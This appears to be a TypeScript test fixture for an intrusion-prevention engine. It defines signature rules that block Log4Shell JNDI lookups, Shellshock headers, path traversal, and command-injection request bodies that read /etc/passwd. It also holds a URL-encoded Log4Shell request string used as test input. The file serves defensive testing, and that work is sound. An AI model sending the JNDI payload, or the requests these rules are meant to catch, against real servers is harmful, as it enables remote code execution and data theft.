import { compileSignatures, createEngine, type Engine, type EngineOptions, type Hit } from '../engine.ts';

export const LOG4SHELL =
  'drop http any any -> any any (msg:"jndi"; flow:established,to_server; http.uri; content:"${jndi:"; nocase; fast_pattern; sid:9001;)';
export const SHELLSHOCK =
  'reject http any any -> any any (msg:"shellshock"; flow:established,to_server; http.header; content:"() {"; sid:9002;)';
export const TRAVERSAL =
  'drop http any any -> any any (msg:"traversal"; flow:established,to_server; http.uri.raw; content:"/.%2e/"; nocase; sid:9003;)';
export const BODY =
  'drop http any any -> any any (msg:"body"; flow:established,to_server; http.method; content:"POST"; http.request_body; content:"cmd="; content:"/etc/passwd"; distance:0; sid:9004;)';
export const RAW =
  'drop tcp any any -> any 80 (msg:"raw"; flow:established,to_server; content:"EVIL"; content:"CODE"; distance:1; within:10; sid:9005;)';

export function engineOf(
  texts: readonly string[],
  options: Partial<Omit<EngineOptions, 'rules'>> = {},
): Engine {
  const rules = compileSignatures(texts.map((text, at) => ({ ruleID: at + 1, text })));
  if (rules.refused.length > 0) throw new Error(JSON.stringify(rules.refused));
  return createEngine({ rules, mode: 'inline', behaviour: 'prevent', ...options });
}

export function feed(engine: Engine, datagrams: readonly Uint8Array[]): { verdicts: string[]; hits: Hit[] } {
  const decisions = datagrams.map((datagram) => engine.inspect(datagram, 1000));
  return {
    verdicts: decisions.map(({ verdict }) => verdict),
    hits: decisions.flatMap(({ hits }) => [...hits]),
  };
}

export const ATTACK = 'GET /?x=%24%7bJndi:ldap://a/b} HTTP/1.1\r\nHost: a\r\n\r\n';
